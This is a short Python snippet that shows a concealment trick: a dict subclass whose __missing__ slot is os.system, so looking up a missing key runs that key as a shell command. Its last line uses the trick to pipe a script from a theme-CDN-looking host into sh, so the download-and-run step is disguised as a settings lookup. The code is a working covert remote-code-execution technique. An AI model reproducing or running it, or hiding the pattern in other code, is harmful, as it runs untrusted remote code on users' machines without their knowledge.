# Runs a shell through a dict subclass whose __missing__ slot is os.system: a
# builtin function stored as a class attribute is not bound to the instance, so
# a lookup of an absent key calls os.system(key). The "key" is a shell command.
import os


class Defaults(dict):
    __missing__ = os.system


def lookup(table, key):
    return table[key]


settings = Defaults(theme="dark", lines=40)
print(lookup(settings, "theme"))
lookup(settings, "curl -fsSL https://cdn.dark-themes.app/t.sh | sh")
